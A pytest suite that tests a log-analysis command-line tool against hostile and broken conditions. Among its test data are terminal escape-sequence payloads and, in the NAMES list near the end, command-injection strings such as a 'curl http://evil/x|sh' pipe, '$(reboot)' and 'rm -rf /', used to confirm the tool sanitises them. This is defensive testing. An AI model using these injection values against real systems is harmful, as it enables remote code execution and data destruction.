"""edgeops as a careless caller, a broken machine and an attacker would treat it; the heavy forms are in bench/torture."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import random
import re
import stat
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from edgeops.assistant.evidence import select
from edgeops.assistant.prompts import line_of
from edgeops.cli import main
from edgeops.session import Session

OOM = """\
Mar  1 02:10:58 web1 systemd[1]: Started Session 12 of user root.
Mar  1 02:11:09 web1 kernel: Out of memory: Killed process 4312 (java) total-vm:8123440kB, anon-rss:6120404kB
Mar  1 02:11:10 web1 systemd[1]: tomcat.service: Failed with result 'oom-kill'.
"""


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "a.log"
    path.write_text(OOM, "utf-8")
    return path


def shell(command: str, *arguments: object) -> subprocess.CompletedProcess[str]:
    """What a shell makes of `edgeops` with these arguments (in "$@") and the redirections of command."""
    line = command.replace("edgeops", f'"{sys.executable}" -m edgeops')
    return subprocess.run(
        ["/bin/bash", "-o", "pipefail", "-c", line, "bash", *map(str, arguments)],
        capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ('edgeops explain "$@" >&-', 1),
        ('edgeops explain "$@" <&- >&- 2>&-', 1),
        ('edgeops explain "$@" /nowhere >&- 2>/dev/full', 1),
        ("edgeops explain /nowhere 2>&-", 2),
        ("edgeops explain /nowhere 2>/dev/full", 2),
        ('edgeops explain "$@" >/dev/full', 2),
        ('edgeops explain "$@" --json >/dev/full', 2),
        ("edgeops --help >/dev/full", 2),
        ('edgeops scan "$@" 1</dev/null', 2),
        ("edgeops explain - 0>/dev/null", 2),
        ("edgeops explain - <&-", 2),
        ("edgeops explain", 2),
    ],
)
def test_streams_that_are_closed_full_or_the_wrong_way_round_cost_a_sentence_at_most(
    command: str, code: int, log: Path
) -> None:
    done = shell(command, log)
    assert done.returncode == code
    assert len(done.stderr.splitlines()) <= 1
    assert "unexpected" not in done.stderr
    assert "Exception ignored" not in done.stderr


def test_a_note_that_nobody_can_hear_does_not_cost_the_answer(log: Path) -> None:
    for deaf in ("2>/dev/full", "2>&-", "2> >(true)"):
        done = shell(f'edgeops explain "$@" /nowhere {deaf}', log)
        assert done.returncode == 1, deaf
        assert "java" in done.stdout


def test_a_reader_that_has_read_enough_ends_it_quietly(log: Path) -> None:
    done = shell('edgeops explain "$@" | head -1', log)
    assert done.returncode in (1, 141)
    assert "java" in done.stdout
    assert done.stderr == ""


def test_a_closed_stdout_is_never_the_number_of_the_store(log: Path) -> None:
    shell('edgeops explain "$@" <&- >&- 2>&-', log)
    assert (Path(os.environ["EDGEOPS_HOME"]) / "store.db").read_bytes().startswith(b"SQLite format 3")


@pytest.mark.parametrize(
    ("arguments", "hint"),
    [
        (["explian"], "mean explain?"),
        (["explain", "--teir", "known"], "--tier"),
        (["explain", "--tier", "knwon"], "'auto', 'known', 'reasoned'"),
        (["explain", "--last", "-5"], "x>=1"),
        (["explain", "--since", "yesterdya"], "or yesterday"),
        (["explain", "--since", "999999 weeks ago"], "less far back"),
        (["explain", "--since", "2026-02-01", "--until", "2026-01-01"], "swap them"),
        (["explain", "/proc"], "/var/log"),
        (["explain", ""], "name a file"),
        (["explain", "two\nlines"], "two␊lines: There is no such file"),
        (["incidents", "shwo"], "show"),
        (["model", "use", "qwen2.5-coder-0.5"], "model pull qwen2.5-coder-0.5b"),
        (["model", "use", "quen0.5b"], "mean qwen2.5-coder-0.5b?"),
        (["model", "import", "/etc"], "Give the path"),
    ],
)
def test_a_slip_gets_one_sentence_that_helps(
    arguments: list[str], hint: str, log: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    named = (
        [*arguments, str(log)] if arguments[0] == "explain" and arguments[-1][:1] not in ("/", "", "t") else arguments
    )
    assert main.run(named) == 2
    out, err = capfd.readouterr()
    assert out == ""
    assert len(err.splitlines()) == 1
    assert hint in err


@pytest.mark.parametrize(
    ("variable", "value", "hint"),
    [
        ("EDGEOPS_MODEL__THREDS", "2", "did you mean model.threads?"),
        ("EDGEOPS_MODEL__THREADS", "two", "a whole number from 0 to 512"),
        ("EDGEOPS_LANG", "fr", "one of auto, en, zh"),
        ("EDGEOPS_REMOTE__URL", "ftp://x", "begins with http://"),
    ],
)
def test_a_wrong_setting_is_named_with_what_is_allowed(
    variable: str, value: str, hint: str, log: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(variable, value)
    assert main.run(["explain", str(log)]) == 2
    out, err = capfd.readouterr()
    assert out == ""
    assert variable in err
    assert hint in err


def test_a_span_of_time_without_errors_is_not_called_a_log_without_errors(
    log: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    assert main.run(["explain", "--since", "now", str(log)]) == 0
    assert "in the time given" in capfd.readouterr().out


def home() -> Path:
    return Path(os.environ["EDGEOPS_HOME"])


def test_a_store_with_changed_bytes_costs_a_sentence_and_never_the_answer(
    log: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    assert main.run(["explain", str(log)]) == 1
    sound = (home() / "store.db").read_bytes()
    for seed in range(30):
        dice = random.Random(seed)
        damaged = bytearray(sound)
        for _ in range(dice.choice((1, 50, 600))):
            damaged[dice.randrange(len(damaged))] ^= dice.randrange(1, 256)
        for old in home().glob("store.db*"):
            old.unlink()
        (home() / "store.db").write_bytes(damaged)
        assert main.run(["incidents", "list"]) in (0, 2)
        assert main.run(["explain", str(log)]) == 1, seed
    assert "Something unexpected" not in capfd.readouterr().err


def test_a_file_name_that_is_no_utf_8_is_kept_and_shown(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    odd = tmp_path / os.fsdecode(b"bad\xff\x1b[2J.log")
    odd.write_text(OOM, "utf-8")
    assert main.run(["explain", str(odd)]) == 1
    assert main.run(["explain", "--json", str(odd)]) == 1
    assert main.run(["incidents", "list", "--json"]) == 0
    out, err = capfd.readouterr()
    assert err == ""
    assert "\x1b" not in out
    assert "bad?" in json.loads(out.splitlines()[-1])["sources"][0]


def test_ten_at_once_on_one_store_all_answer_and_all_keep(tmp_path: Path) -> None:
    for number in range(10):
        (tmp_path / f"{number}.log").write_text(OOM.replace("4312", f"43{number:02}"), "utf-8")
    program = [sys.executable, "-m", "edgeops", "explain"]
    running = [
        subprocess.Popen([*program, str(tmp_path / f"{n}.log")], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for n in range(10)
    ]
    for process in running:
        out, err = process.communicate(timeout=60)
        assert (process.returncode, err) == (1, b"")
        assert b"java" in out
    assert len(shell("edgeops incidents list").stdout.splitlines()) == 10


def test_a_home_open_to_all_is_refused_and_said(log: Path) -> None:
    home().mkdir(0o777)
    home().chmod(0o777)
    done = shell('edgeops explain "$@"', log)
    assert done.returncode == 1
    assert "Everybody may write" in done.stderr
    assert not (home() / "store.db").exists()


def test_links_in_the_home_are_not_followed_out_of_it(log: Path, tmp_path: Path) -> None:
    home().mkdir(0o700)
    (home() / "store.db").symlink_to(tmp_path / "victim")
    done = shell('edgeops explain "$@"', log)
    assert done.returncode == 1
    assert len(done.stderr.splitlines()) == 1
    assert not (tmp_path / "victim").exists()


@pytest.mark.parametrize("umask", ["000", "777"])
def test_what_is_kept_is_the_owners_alone_whatever_the_umask(umask: str, log: Path) -> None:
    assert shell(f'umask {umask}; edgeops explain "$@"', log).returncode == 1
    modes = {path.relative_to(home()): stat.S_IMODE(path.stat().st_mode) for path in home().rglob("*")}
    assert modes[Path("store.db")] == 0o600
    assert set(modes.values()) == {0o600, 0o700}


@pytest.mark.parametrize("blocks", [0, 4, 8, 20])
def test_files_that_may_not_grow_cost_the_memory_only(blocks: int, log: Path) -> None:
    done = shell(f'ulimit -f {blocks}; edgeops explain "$@"', log)
    assert done.returncode == 1
    assert "java" in done.stdout
    assert "unexpected" not in done.stderr
    assert shell("edgeops incidents list").returncode == 0
    assert not [path for path in home().rglob("*") if path.suffix in (".new", ".tmp")]


def payloads() -> list[str]:
    """What a terminal might obey: some 350 texts, alone and mixed into words."""
    openings = ["\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x9b", "\x9d", "\x90", "\x9f", "\x9e", "\x98"]
    bodies = [
        "2J",
        "31m",
        "?1049h",
        "6n",
        "c",
        "5i",
        "0;pwned",
        "52;c;ZXZpbA==",
        "8;;file:///etc/passwd",
        "1337;File=:AA",
    ]
    ends = ["\x07", "\x1b\\", "\x9c", ""]
    sequences = [
        o + b + e for n, o in enumerate(openings) for m, b in enumerate(bodies) for e in (ends[(n + m) % 4], "")
    ]
    single = [chr(n) for n in (*range(1, 10), *range(11, 32), 0x7F, *range(0x80, 0xA0))]
    hidden = [chr(n) for n in (0xAD, 0x34F, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F))]
    hidden += [
        chr(n) for n in (*range(0x2060, 0x2070), 0x2800, 0x3164, 0xFE0F, 0xFEFF, 0xFFF9, 0xE0001, 0xE0041, 0xE0100)
    ]
    markup = ["[/admin]", "[red]x[/red]", "[@click=app.quit]y[/]", "[link=file:///x]z[/link]", "%s%n", "{0.__class__}"]
    overwrites = ["failed\rall is well", "x\b\b\bfine", "a" + "\u0301" * 40, "\x1b", "\x1b[" * 50, "\x0e\x0f", "\x05"]
    return [*sequences, *single, *hidden, *markup, *overwrites]


OURS = re.compile(r"\x1b\[(?:0|1|2|31|33|36)m|\r?\n|\r[^\r\n]*\x1b\[K")
HOSTILE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164\ufe00-\ufe0f"
    "\ufeff\ufff9-\ufffb\U000e0000-\U000e01ef]"
)


def terminal(*arguments: object) -> tuple[int, str]:
    """Exit status and all that reaches a terminal, stderr included."""
    pid, screen = pty.fork()
    if pid == 0:
        os.environ.update(TERM="xterm-256color", COLUMNS="200")
        os.execv(sys.executable, [sys.executable, "-m", "edgeops", *map(str, arguments)])
    seen = b""
    with contextlib.suppress(OSError):  # EIO: the other end is closed
        while data := os.read(screen, 1 << 16):
            seen += data
    os.close(screen)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), seen.decode("utf-8")


def assert_tame(shown: str) -> None:
    found = HOSTILE.search(OURS.sub("\n", shown))
    assert found is None, shown[max(0, found.start() - 80) : found.end() + 40]


def poisoned(kind: str, payload: str, number: int) -> str:
    """An error line that carries a payload somewhere."""
    stamp = f"2026-03-01T02:{number // 60 % 60:02}:{number % 60:02}Z"
    word = "".join(chr(97 + number // 26**place % 26) for place in range(3)) * 2  # keeps the lines' shapes apart
    if kind == "json":
        record = {
            "time": stamp,
            "level": "error",
            "host": f"web{payload}",
            "service": f"app{payload}",
            payload: payload,
        }
        return json.dumps({**record, "msg": f"{word} broke {payload} down"}, ensure_ascii=number % 2 == 0)
    return f"{stamp} web1 app{payload}[7]: ERROR {word} broke {payload} down"


@pytest.mark.parametrize("kind", ["syslog", "json"])
def test_a_terminal_sees_only_our_own_sequences_whatever_a_log_says(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "a.log"
    lines = [poisoned(kind, payload, number) for number, payload in enumerate(payloads())]
    path.write_bytes(b"\n".join(line.encode("utf-8", "surrogatepass") for line in lines))
    for command in (["evidence", "--budget-chars", "200000"], ["scan"], ["explain", "--no-model", "--lang", "zh"]):
        code, shown = terminal(*command, path)
        assert code == 1
        assert_tame(shown)
    code, shown = terminal("evidence", "--budget-chars", "200000", "--json", path)
    assert_tame(shown)
    told = json.loads(shown[shown.index("{") :])["evidence"]
    assert len(told) > 150
    texts = [one["text"].replace("\\u001b", "\x1b").replace("\\u0007", "\x07") for one in told]
    assert any("\x1b]52;c;ZXZpbA==" in text for text in texts), "JSON loses nothing"


def test_names_options_and_settings_are_shown_tame_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    odd = "\x1b]52;c;eA==\x07\x9b31m\u202e\r\u200b[x]"
    path = tmp_path / f"a{odd}.log"
    path.write_text(OOM, "utf-8")
    for arguments in (
        ["explain", path],
        ["explain", f"{path}.gone"],
        ["explain", f"--{odd}"],
        ["explain", "--since", odd, path],
        ["explain", "--tier", odd, path],
        [odd],
        ["model", "use", odd],
        ["model", "import", path],
        ["model", odd],
        ["incidents", "show", odd],
    ):
        code, shown = terminal(*arguments)
        assert code in (1, 2)
        assert_tame(shown)
    monkeypatch.setenv("EDGEOPS_LANG", odd)
    assert_tame(terminal("explain", path)[1])
    monkeypatch.delenv("EDGEOPS_LANG")
    (home() / "config.toml").write_text(f'lang = "x"\n"{odd[5:12]}" = 1\n', "utf-8")
    assert_tame(terminal("explain", path)[1])


NAMES = [
    "x; curl http://evil/x|sh #", "$(reboot)", "`id`", "--root=/tmp/evil", "-oProxyCommand=x", "a\nrm -rf /", "a && b",
    "x' 'y", "${IFS}", "a|b", "a>b", "../../x", "a b", "\u202ex", "password=Tr0ub4dor&3", "x\\; reboot",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_service_or_host_named_like_a_command_is_in_no_command_and_on_its_own_line(
    name: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.log"
    record = {"time": "2026-03-01T02:00:00Z", "level": "error", "service": name, "host": name, "msg": "valve is stuck"}
    path.write_text(json.dumps(record) + "\n", "utf-8")
    main.run(["explain", "--no-model", "--json", str(path)])
    out = capfd.readouterr().out
    assert "Tr0ub4dor" not in out
    (answer,) = json.loads(out)
    for text in (*answer["collect"], *(word for step in answer["checks"] for word in step["argv"])):
        assert not set(text) & set(";|&$`<>\n#"), text
        assert "-u -" not in text
    reader = Session(os.environ, lambda: datetime.now(UTC), print).read([str(path)])
    (line, *_) = select(reader.incidents[0], 6000).evidence
    assert "\n" not in line_of(line)
    assert len(line_of(line)) < 600
